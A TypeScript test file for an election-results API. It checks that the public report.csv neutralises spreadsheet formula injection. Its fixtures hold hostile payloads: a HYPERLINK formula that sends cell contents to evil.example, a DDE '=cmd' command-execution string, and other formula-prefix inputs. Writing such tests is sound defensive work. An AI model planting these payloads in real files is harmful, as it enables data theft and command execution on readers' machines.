import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { election, electionCode, officialCsv, stationsHeader } from '../../support/election-fixture.js';
import { recomputeElection } from '../../support/election-jobs.js';
import { adminHeaders, createTestApi, type TTestApi } from '../../support/test-api.js';

// Issue 14, item 10, tried as an attacker would: station and region names that a spreadsheet
// would run as formulas, in the public report.csv a journalist opens in Excel or LibreOffice.
// The file is read back with a real CSV reader (csv-parse): no text cell may start as a formula.
let api: TTestApi;
const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-1+2', '@SUM(1,2)', '\t=1+2', '\r=1+2'];
const codes = names.map((_, i) => String(i + 1).padStart(4, '0'));

beforeAll(async () => {
  api = await createTestApi({}, { pipeline: true });
  const csv = (headers: Record<string, string>) => ({ ...adminHeaders, 'content-type': 'text/csv', ...headers });
  await api.app.inject({ method: 'POST', url: '/v1/admin/elections', headers: adminHeaders, payload: election });
  const quoted = (s: string) => `"${s.replaceAll('"', '""')}"`;
  const rows = names.map((name, i) =>
    [codes[i], quoted(`=cmd|' /C calc'!A0/District ${i}`), quoted(name), quoted(name), 'a', 'a', 1500].join(','),
  );
  const stations = await api.app.inject({
    method: 'POST',
    url: `/v1/admin/elections/${electionCode}/stations`,
    headers: csv({}),
    payload: [stationsHeader, ...rows].join('\n') + '\n',
  });
  expect(stations.statusCode, stations.body).toBe(200);
  // Every station's published numbers break a control relation: each is in the report.
  const official = await api.app.inject({
    method: 'POST',
    url: `/v1/admin/elections/${electionCode}/official`,
    headers: csv({}),
    payload: officialCsv(codes, (_code, v) => {
      v.invalid! += 7;
    }),
  });
  expect(official.statusCode, official.body).toBe(200);
  await recomputeElection(api.app, electionCode);
});
afterAll(async () => api?.close());

describe('the report CSV opened in a spreadsheet', () => {
  it('starts no text cell as a formula, and keeps the text itself readable', async () => {
    const res = await api.app.inject({
      method: 'GET',
      url: `/v1/elections/${electionCode}/report.csv`,
      headers: adminHeaders,
    });
    expect(res.statusCode).toBe(200);
    const records = parse(res.body, { columns: true, relax_quotes: false }) as Record<string, string>[];
    expect(records).toHaveLength(names.length);
    for (const r of records) {
      for (const column of ['region', 'station', 'name_be', 'name_ru', 'sources']) {
        expect(r[column], `${column} of ${r.station}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const byName = records.map((r) => r.name_be).sort();
    expect(byName).toEqual(names.map((n) => `'${n}`).sort());
    expect(records.every((r) => r.region!.startsWith("'=cmd|"))).toBe(true);
  });
});
